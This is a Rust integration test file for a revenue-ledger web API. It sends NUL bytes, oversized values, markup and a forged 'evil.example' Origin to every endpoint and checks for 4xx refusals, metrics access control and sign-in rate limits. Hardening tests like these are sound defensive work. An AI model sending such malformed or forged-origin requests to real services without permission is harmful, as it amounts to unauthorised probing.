/// Bodies that each put one bad string into one property of `schema` (at any depth).
fn bad_bodies(
    document: &serde_json::Value,
    schema: &serde_json::Value,
    bad: &str,
) -> Vec<serde_json::Value> {
    let schema = resolved(document, schema);
    let mut bodies = Vec::new();
    for (name, property) in schema["properties"].as_object().into_iter().flatten() {
        let property = resolved(document, property);
        if property["type"] == "string" || property["type"].is_null() {
            bodies.push(json!({ name: bad }));
        }
        if property["type"] == "object" {
            for inner in bad_bodies(document, property, bad) {
                bodies.push(json!({ name: inner }));
            }
        }
        if property["type"] == "array" {
            for inner in bad_bodies(document, &property["items"], bad) {
                bodies.push(json!({ name: [inner] }));
            }
        }
    }
    bodies
}

async fn every_operation_answers_nul_and_oversized_values_with_4xx(engine: Engine) {
    let Some(app) = crate::app::spawn_app(engine).await else {
        return;
    };
    let document = app.get("/openapi.json", None).await.body;
    let oversized = "z".repeat(5_000);
    let encoded_oversized = "y".repeat(3_000);
    let mut statuses = std::collections::BTreeMap::<u16, u32>::new();
    let mut sent = 0;
    for (path, item) in document["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            let method = method.to_uppercase();
            let parameters: Vec<&serde_json::Value> = operation["parameters"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|p| resolved(&document, p))
                .collect();
            let path_names: Vec<&str> = parameters
                .iter()
                .filter(|p| p["in"] == "path")
                .filter_map(|p| p["name"].as_str())
                .collect();
            let with = |bad_name: Option<&str>, bad: &str| {
                path_names.iter().fold(path.clone(), |path, name| {
                    let value = if Some(*name) == bad_name { bad } else { "x" };
                    path.replace(&format!("{{{name}}}"), value)
                })
            };
            let mut requests: Vec<(String, Vec<u8>)> = Vec::new();
            for name in &path_names {
                for bad in ["%00", "a%00b", encoded_oversized.as_str(), "%20lead"] {
                    requests.push((with(Some(name), bad), b"{}".to_vec()));
                }
            }
            for parameter in parameters.iter().filter(|p| p["in"] == "query") {
                let name = parameter["name"].as_str().unwrap();
                for bad in ["%00", oversized.as_str()] {
                    requests.push((format!("{}?{name}={bad}", with(None, "")), b"{}".to_vec()));
                }
            }
            if let Some(schema) =
                operation["requestBody"]["content"]["application/json"]["schema"].as_object()
            {
                let schema = serde_json::Value::Object(schema.clone());
                for bad in ["a\u{0}b", oversized.as_str(), " lead", "a/b"] {
                    for body in bad_bodies(&document, &schema, bad) {
                        requests.push((with(None, "x"), body.to_string().into_bytes()));
                    }
                }
            }
            for (target, body) in requests {
                let answer = app.request(&method, &target, &admin_json(), &body).await;
                sent += 1;
                *statuses.entry(answer.status).or_default() += 1;
                // " lead" and "a/b" are refused where the field is an identifier and allowed
                // where it is text; either way never a server error.
                assert!(
                    (200..500).contains(&answer.status),
                    "{method} {} answered {}: {}",
                    target.chars().take(120).collect::<String>(),
                    answer.status,
                    answer.text
                );
                let nul_or_long = target.contains("%00")
                    || target.len() > 2_000
                    || String::from_utf8_lossy(&body).contains("\\u0000")
                    || body.len() > 2_000;
                if nul_or_long {
                    assert!(
                        (400..500).contains(&answer.status),
                        "{method} {} with a NUL or oversized value answered {}: {}",
                        target.chars().take(120).collect::<String>(),
                        answer.status,
                        answer.text
                    );
                }
            }
        }
    }
    eprintln!("{engine:?}: {sent} bad requests, statuses {statuses:?}");
    assert!(sent > 150, "{sent}");
    app.stop().await;
}

async fn identifiers_follow_one_grammar_and_the_smaller_findings_are_fixed(engine: Engine) {
    let Some(app) = crate::app::spawn_app(engine).await else {
        return;
    };
    // A leading space, a slash, markup, 3,000 characters: not identifiers.
    for bad in [" lead-0001", "a/b", "<b>x</b>", &"l".repeat(3_000)] {
        let body =
            json!({"lead_id": bad, "name": "N", "email": "n@example.sa", "source": "website"});
        let answer = app
            .request(
                "POST",
                "/api/leads",
                &admin_json(),
                body.to_string().as_bytes(),
            )
            .await;
        assert_eq!(answer.status, 400, "{bad:?}: {}", answer.text);
        assert_eq!(answer.body["field"], "lead_id", "{}", answer.text);
    }
    let good =
        json!({"lead_id": "lead-0001", "name": "N", "email": "n@example.sa", "source": "website"});
    let answer = app
        .request(
            "POST",
            "/api/leads",
            &admin_json(),
            good.to_string().as_bytes(),
        )
        .await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    // NUL in every path the attack review named: 400, never 500.
    for path in [
        "/api/ledger/accounts/a%00b",
        "/api/partners/a%00b/statements/2026-11",
        "/api/leads/a%00b",
        "/dashboard/audit?stream=a%00b",
    ] {
        let answer = app.get(path, Some(ADMIN_TOKEN)).await;
        assert_eq!(answer.status, 400, "{path}: {}", answer.text);
    }
    for (method, path, body) in [
        (
            "POST",
            "/api/partners/a%00b/tier",
            json!({"tier": "certified", "reason": "x"}),
        ),
        (
            "POST",
            "/api/partners/a%00b/referrals",
            json!({"lead_email": "a@b.sa", "clicked_at": "2026-01-01T00:00:00Z"}),
        ),
        ("POST", "/api/commissions/a%00b/approve", json!({})),
        ("POST", "/api/webhooks/dead-letters/a%00b/replay", json!({})),
        (
            "POST",
            "/api/partners/p-x/referrals",
            json!({"lead_email": "a\u{0}@b.sa", "clicked_at": "2026-01-01T00:00:00Z"}),
        ),
    ] {
        let answer = app
            .request(method, path, &admin_json(), body.to_string().as_bytes())
            .await;
        assert_eq!(answer.status, 400, "{path}: {}", answer.text);
    }

    // A cursor at the largest version is an empty page, not a wrap-around to version 1.
    let stream = "lead-lead-0001";
    let answer = app
        .get(
            &format!("/api/streams/{stream}/events?cursor={}", i64::MAX),
            Some(ADMIN_TOKEN),
        )
        .await;
    assert!(
        answer.status == 400 || answer.body["items"].as_array().is_some_and(Vec::is_empty),
        "{}",
        answer.text
    );
    let answer = app
        .get(
            &format!("/api/streams/{stream}/events?cursor={}", u64::MAX),
            Some(ADMIN_TOKEN),
        )
        .await;
    assert!(
        answer.status == 400 || answer.body["items"].as_array().is_some_and(Vec::is_empty),
        "{}",
        answer.text
    );

    // A 60 KB X-Request-Id is not stored: the request gets an id of the server's.
    let mut headers = admin_json();
    headers.push(("X-Request-Id", "r".repeat(60_000)));
    let body = json!({"name": "Long id", "email": "long@example.sa", "source": "website"});
    let answer = app
        .request("POST", "/api/leads", &headers, body.to_string().as_bytes())
        .await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    let request_id = answer.header("x-request-id").unwrap().to_owned();
    assert!(request_id.len() <= 128, "{request_id}");
    let stored = app
        .stream(answer.body["stream_id"].as_str().unwrap())
        .await
        .remove(0);
    assert_eq!(stored.metadata["request_id"], request_id.as_str());
    // A usable one is kept.
    let mut headers = admin_json();
    headers.push(("X-Request-Id", "req-42:a".to_owned()));
    let body = json!({"name": "Short id", "email": "short@example.sa", "source": "website"});
    let answer = app
        .request("POST", "/api/leads", &headers, body.to_string().as_bytes())
        .await;
    assert_eq!(answer.header("x-request-id"), Some("req-42:a"));

    // The event feed polled at its head reads only what is new.
    let head = app.db.store.head_position().await.unwrap();
    let at_head = app
        .get(&format!("/api/events?after={head}"), Some(ADMIN_TOKEN))
        .await;
    assert_eq!(at_head.status, 200);
    assert!(at_head.text.trim().is_empty(), "{}", at_head.text);
    let before = app
        .get(
            &format!("/api/events?after={}", head - 1),
            Some(ADMIN_TOKEN),
        )
        .await;
    let lines: Vec<serde_json::Value> = before
        .text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(lines.len(), 1, "{}", before.text);
    assert_eq!(lines[0]["position"], head);
    let start = app.db.store.checkpoint_before(head).await.unwrap();
    assert!(
        app.db
            .store
            .read_committed(start, 10)
            .await
            .unwrap()
            .is_empty(),
        "{start:?}"
    );
    if engine == Engine::Postgres {
        let plan: Vec<String> = app
            .db
            .store
            .sql()
            .fetch_all(
                "EXPLAIN SELECT MIN(transaction_id)::text FROM events WHERE position > ?",
                &[head.into()],
            )
            .await
            .unwrap()
            .iter()
            .map(|row| row.text(0).unwrap())
            .collect();
        assert!(
            plan.iter().any(|line| line.contains("Index")),
            "the feed's start is found through an index: {plan:?}"
        );
    }

    // The bearer scheme is case-insensitive (RFC 9110).
    for scheme in ["bearer", "BEARER", "Bearer"] {
        let answer = app
            .request(
                "GET",
                "/api/funnel",
                &[("Authorization", format!("{scheme} {ADMIN_TOKEN}"))],
                b"",
            )
            .await;
        assert_eq!(answer.status, 200, "{scheme}: {}", answer.text);
    }
    app.stop().await;
}

mod input_rules {
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn sqlite_every_operation_answers_nul_and_oversized_values_with_4xx() {
        super::every_operation_answers_nul_and_oversized_values_with_4xx(super::Engine::Sqlite)
            .await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn postgres_every_operation_answers_nul_and_oversized_values_with_4xx() {
        super::every_operation_answers_nul_and_oversized_values_with_4xx(super::Engine::Postgres)
            .await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn sqlite_identifiers_follow_one_grammar_and_the_smaller_findings_are_fixed() {
        super::identifiers_follow_one_grammar_and_the_smaller_findings_are_fixed(
            super::Engine::Sqlite,
        )
        .await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn postgres_identifiers_follow_one_grammar_and_the_smaller_findings_are_fixed() {
        super::identifiers_follow_one_grammar_and_the_smaller_findings_are_fixed(
            super::Engine::Postgres,
        )
        .await;
    }
}

/// `/metrics` shows business volumes: a token, or a listener of its own.
async fn metrics_are_not_for_anyone_who_can_reach_the_port(engine: Engine) {
    const METRICS_TOKEN: &str = "metrics-token-for-prometheus-0123456789";
    let Some(app) = crate::app::spawn_app_with(engine, |config| {
        config.metrics_token = Some(adapters::webhooks::Secret::new(METRICS_TOKEN));
        config.metrics_listen = Some("127.0.0.1:0".parse().unwrap());
    })
    .await
    else {
        return;
    };
    assert_eq!(app.get("/metrics", None).await.status, 401);
    assert_eq!(app.get("/metrics", Some("wrong")).await.status, 401);
    let sales = crate::finance_api::token(&app, api::auth::Role::Sales, None).await;
    assert_eq!(app.get("/metrics", Some(&sales)).await.status, 403);
    for token in [METRICS_TOKEN, ADMIN_TOKEN] {
        let answer = app.get("/metrics", Some(token)).await;
        assert_eq!(answer.status, 200, "{}", answer.text);
        assert!(answer.text.contains("revledger_"), "{}", answer.text);
    }
    // The metrics-only listener answers without a token, and serves nothing else.
    let metrics_address = app.metrics_address.clone().expect("a metrics listener");
    let scraped = crate::app::http_request(&metrics_address, "GET", "/metrics", &[], b"").await;
    assert_eq!(scraped.status, 200, "{}", scraped.text);
    assert!(scraped.text.contains("revledger_"));
    let other = crate::app::http_request(&metrics_address, "GET", "/api/funnel", &[], b"").await;
    assert_eq!(other.status, 404);
    app.stop().await;
}

mod metrics_access {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite_metrics_are_not_for_anyone_who_can_reach_the_port() {
        super::metrics_are_not_for_anyone_who_can_reach_the_port(super::Engine::Sqlite).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres_metrics_are_not_for_anyone_who_can_reach_the_port() {
        super::metrics_are_not_for_anyone_who_can_reach_the_port(super::Engine::Postgres).await;
    }
}

/// The dashboard's sign-in: a form posted from another site is refused, and one client gets a
/// bounded number of attempts a minute (another client is not held up by it).
async fn the_sign_in_form_refuses_other_sites_and_bounds_attempts(engine: Engine) {
    let Some(app) = crate::app::spawn_app(engine).await else {
        return;
    };
    let form = |extra: &[(&'static str, String)]| {
        let mut headers = vec![(
            "Content-Type",
            "application/x-www-form-urlencoded".to_owned(),
        )];
        headers.extend(extra.iter().cloned());
        headers
    };
    let body = b"token=not-a-token&next=%2Fdashboard";
    let cross = app
        .request(
            "POST",
            "/dashboard/login",
            &form(&[("Origin", "https://evil.example".to_owned())]),
            body,
        )
        .await;
    assert_eq!(cross.status, 403, "{}", cross.text);
    let own_origin = format!("http://{}", app.address);
    let mut statuses = Vec::new();
    for _ in 0..api::signin::MAX_ATTEMPTS + 2 {
        let answer = app
            .request(
                "POST",
                "/dashboard/login",
                &form(&[("Origin", own_origin.clone())]),
                body,
            )
            .await;
        if answer.status == 429 {
            assert!(
                answer.header("retry-after").is_some(),
                "{:?}",
                answer.headers
            );
        }
        statuses.push(answer.status);
    }
    let refused = statuses.iter().filter(|s| **s == 401).count() as u32;
    assert_eq!(refused, api::signin::MAX_ATTEMPTS, "{statuses:?}");
    assert_eq!(statuses.last(), Some(&429), "{statuses:?}");
    // Another address still signs in.
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind("127.0.0.2:0".parse().unwrap()).unwrap();
    let mut stream = socket.connect(app.address.parse().unwrap()).await.unwrap();
    let good = format!("token={ADMIN_TOKEN}&next=%2Fdashboard");
    let request = format!(
        "POST /dashboard/login HTTP/1.1\r\nHost: {}\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{good}",
        app.address,
        good.len()
    );
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).await.unwrap();
    let answer = crate::app::Answer::from_http(&raw);
    assert_eq!(answer.status, 303, "{:?}", answer.headers);
    app.stop().await;
}

mod sign_in {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite_the_sign_in_form_refuses_other_sites_and_bounds_attempts() {
        super::the_sign_in_form_refuses_other_sites_and_bounds_attempts(super::Engine::Sqlite)
            .await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres_the_sign_in_form_refuses_other_sites_and_bounds_attempts() {
        super::the_sign_in_form_refuses_other_sites_and_bounds_attempts(super::Engine::Postgres)
            .await;
    }
}
